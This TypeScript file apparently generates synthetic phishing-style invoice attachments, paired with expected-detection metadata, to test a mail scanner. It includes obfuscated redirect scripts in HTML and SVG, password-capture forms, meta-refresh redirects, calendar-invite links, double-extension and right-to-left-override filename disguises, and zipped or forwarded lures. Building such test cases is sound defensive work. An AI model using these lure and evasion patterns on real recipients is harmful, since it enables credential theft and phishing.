import type { ExpectedAttachment, ExpectedLink, Place } from '../expectation.ts';
import type { Content, Filling, Form } from '../form.ts';
import { calendarText, invitation } from '../parts/calendar.ts';
import { message as wholeMessage } from '../parts/envelope.ts';
import { escaped, link, page, paragraphs } from '../parts/html.ts';
import { leaf, multipart, type Part } from '../parts/mime.ts';
import { docx, xlsx, zip } from '../parts/office.ts';
import { pdf } from '../parts/pdf.ts';

const form = (name: string, make: Form['make']): Form => ({ name, kind: 'invoice', make });

/** A short text and one thing attached. */
function attached(
  filling: Filling,
  part: Part,
  attachment: ExpectedAttachment | undefined,
  target: Omit<ExpectedLink, 'url'> | undefined,
): Content {
  return {
    body: multipart(filling.random, 'mixed', [leaf('text/plain', `${filling.words.sentence}\n`), part]),
    targets: target === undefined ? [] : [{ url: filling.target, ...target }],
    attachments: attachment === undefined ? [] : [attachment],
  };
}

const file = (
  filling: Filling,
  type: string,
  name: string,
  bytes: string | Buffer,
  place: Place,
  mark?: ExpectedAttachment['mark'],
): Content =>
  attached(
    filling,
    leaf(type, typeof bytes === 'string' ? Buffer.from(bytes) : bytes, { filename: name }),
    mark === undefined ? { name } : { name, mark },
    { place },
  );

/** A page that leads on by script; `code` gets the address as a literal or pieces of it. */
const scripted = (filling: Filling, code: string, type = 'text/html', name = 'invoice.htm'): Content =>
  file(filling, type, name, page(`<p>Loading…</p><script>${code}</script>`), 'script');

const quoted = (text: string): string => JSON.stringify(text).replaceAll('</', '<\\/');

function pieces(text: string, count: number): string[] {
  const size = Math.ceil(text.length / count);
  return Array.from({ length: count }, (_, index) => text.slice(index * size, (index + 1) * size)).filter(
    (piece) => piece !== '',
  );
}

const fromCodes = (text: string): string =>
  `String.fromCharCode(${[...text].map((letter) => letter.charCodeAt(0)).join(',')})`;
const everyByte = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

const scripts: readonly Form[] = [
  form('script-literal-octet-stream', (filling) =>
    scripted(filling, `window.location.href=${quoted(filling.target)};`, 'application/octet-stream'),
  ),
  form('script-concatenation', (filling) =>
    scripted(filling, `var a=${pieces(filling.target, 5).map(quoted).join('+')};location.replace(a);`),
  ),
  form('script-variables', (filling) => {
    const [one = '', two = '', three = ''] = pieces(filling.target, 3);
    return scripted(filling, `var x=${quoted(two)};const y=${quoted(one)};let z=y+x+${quoted(three)};top.location=z;`);
  }),
  form('script-atob', (filling) =>
    scripted(filling, `location.href=atob(${quoted(Buffer.from(filling.target).toString('base64'))});`),
  ),
  form('script-unescape', (filling) =>
    scripted(filling, `document.location=unescape(${quoted(everyByte(filling.target))});`),
  ),
  form('script-decode-uri-component', (filling) =>
    scripted(filling, `location.assign(decodeURIComponent(${quoted(everyByte(filling.target))}))`),
  ),
  form('script-from-char-code', (filling) => scripted(filling, `location=${fromCodes(filling.target)}`)),
  form('script-join', (filling) =>
    scripted(filling, `location.href=[${pieces(filling.target, 7).map(quoted).join(',')}].join("")`),
  ),
  form('script-replace', (filling) =>
    scripted(
      filling,
      `location.href=${quoted(`${filling.target.slice(0, 4)}~#~${filling.target.slice(4)}`)}.replace("~#~","")`,
    ),
  ),
  form('script-atob-of-pieces', (filling) => {
    const encoded = pieces(Buffer.from(filling.target).toString('base64'), 4).map(quoted).join('+');
    return scripted(filling, `eval("void 0");var u=atob(${encoded});setTimeout(function(){window.location=u},10)`);
  }),
  form('script-written-page', (filling) => {
    const inner = `<form action="${escaped(filling.target)}" method="post"><input type="password" name="p"></form>`;
    return {
      ...scripted(filling, `document.write(unescape(${quoted(everyByte(inner))}))`),
      targets: [{ url: filling.target, place: 'script', alsoPlace: ['html_attachment', 'form'] }],
    };
  }),
];

const event = (filling: Filling, lines: readonly string[]): string =>
  invitation('office@meeting.example', `${filling.random.hex(16)}@meeting.example`, [
    `SUMMARY:${calendarText(filling.words.subject)}`,
    ...lines,
  ]);

const calendars: readonly Form[] = [
  form('calendar-location', (filling) => ({
    body: multipart(filling.random, 'alternative', [
      leaf('text/plain', `${filling.words.sentence}\n`),
      leaf('text/calendar', event(filling, [`LOCATION:${calendarText(filling.target)}`]), {
        parameters: 'method=REQUEST',
      }),
    ]),
    targets: [{ url: filling.target, place: 'calendar' }],
  })),
  form('calendar-description', (filling) =>
    file(
      filling,
      'text/calendar',
      'invite.ics',
      event(filling, [`DESCRIPTION:${calendarText(`${filling.words.sentence}\n${filling.target}\n`)}`]),
      'calendar',
    ),
  ),
  form('calendar-url', (filling) =>
    file(filling, 'application/ics', 'invite.ics', event(filling, [`URL:${filling.target}`]), 'calendar'),
  ),
  form('calendar-html-description', (filling) =>
    file(
      filling,
      'text/calendar',
      'invite.ics',
      event(filling, [`X-ALT-DESC;FMTTYPE=text/html:${calendarText(link(filling.target, filling.words.action))}`]),
      'calendar',
    ),
  ),
];

const pages: readonly Form[] = [
  form('html-attachment-link', (filling) =>
    file(filling, 'text/html', 'invoice.html', page(link(filling.target, filling.words.action)), 'html_attachment'),
  ),
  form('html-attachment-form', (filling) => ({
    ...file(
      filling,
      'text/html',
      'invoice.html',
      page(
        `<form method="post" action="${escaped(filling.target)}"><input type="password" name="p"><input type="submit"></form>`,
      ),
      'html_attachment',
    ),
    targets: [{ url: filling.target, place: 'html_attachment', alsoPlace: ['form'] }],
  })),
  form('html-attachment-refresh', (filling) =>
    file(
      filling,
      'text/html',
      'invoice.shtml',
      page('', 'en', `<meta http-equiv="refresh" content="0; url=${escaped(filling.target)}">`),
      'html_attachment',
    ),
  ),
  form('svg-link', (filling) =>
    file(
      filling,
      'image/svg+xml',
      'document.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="60"><a xlink:href="${escaped(filling.target)}"><text x="10" y="30">${escaped(filling.words.action)}</text></a></svg>`,
      'svg_attachment',
    ),
  ),
  form('svg-script', (filling) => ({
    ...file(
      filling,
      'image/svg+xml',
      'voice-message.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script type="application/ecmascript"><![CDATA[window.location.href=atob("${Buffer.from(filling.target).toString('base64')}")]]></script></svg>`,
      'svg_attachment',
    ),
    targets: [{ url: filling.target, place: 'script', alsoPlace: ['svg_attachment'] }],
  })),
  form('disguised-ending', (filling) =>
    file(
      filling,
      'application/octet-stream',
      'invoice.pdf.html',
      page(link(filling.target, filling.words.action)),
      'html_attachment',
      'disguised_ending',
    ),
  ),
  form('disguised-by-direction', (filling) =>
    file(
      filling,
      'text/html',
      'invoice_\u202efdp.html',
      page(link(filling.target, filling.words.action)),
      'html_attachment',
      'disguised_ending',
    ),
  ),
  form('archive-listed', (filling) =>
    attached(
      filling,
      leaf('application/zip', zip({ 'invoice.html': page(link(filling.target, filling.words.action)) }), {
        filename: 'invoice.zip',
      }),
      { name: 'invoice.zip', mark: 'archive' },
      undefined,
    ),
  ),
];

const documents: readonly Form[] = [
  form('pdf-link', async (filling) =>
    file(
      filling,
      'application/pdf',
      'invoice.pdf',
      await pdf({ lines: ['A document was shared with you.'], link: { text: 'Open document', url: filling.target } }),
      'pdf_link',
    ),
  ),
  form('pdf-octet-stream', async (filling) =>
    file(
      filling,
      'application/octet-stream',
      'invoice.pdf',
      await pdf({ lines: ['Statement'], link: { text: 'Review', url: filling.target } }),
      'pdf_link',
    ),
  ),
  form('pdf-text', async (filling) => {
    // A short address stays on one line of the page.
    const short = `${new URL(filling.target).origin}/`;
    return {
      ...file(
        filling,
        'application/pdf',
        'invoice.pdf',
        await pdf({ lines: ['Please visit', short, 'to read the document.'] }),
        'pdf_text',
      ),
      targets: [{ url: short, place: 'pdf_text' }],
    };
  }),
  form('word-link', (filling) =>
    file(
      filling,
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'invoice.docx',
      docx('Open document', filling.target),
      'office_link',
    ),
  ),
  form('excel-link', (filling) =>
    file(
      filling,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'invoice.xlsx',
      xlsx('Open document', filling.target),
      'office_link',
    ),
  ),
];

const inner = (filling: Filling): Buffer =>
  wholeMessage(
    filling.random,
    { from: { name: 'Service', address: 'service@partner.example' }, subject: filling.words.subject },
    leaf('text/html', page(paragraphs(escaped(filling.words.sentence), link(filling.target, filling.words.action)))),
  );

const messages: readonly Form[] = [
  form('attached-message', (filling) =>
    attached(
      filling,
      {
        headers: [
          ['Content-Type', 'message/rfc822'],
          ['Content-Disposition', 'attachment'],
        ],
        body: inner(filling),
      },
      undefined,
      { place: 'attached_message' },
    ),
  ),
  form('attached-eml-file', (filling) =>
    file(filling, 'application/octet-stream', 'forwarded.eml', inner(filling), 'attached_message'),
  ),
];

/** What hangs on a message. */
export const attachments: readonly Form[] = [...scripts, ...calendars, ...pages, ...documents, ...messages];
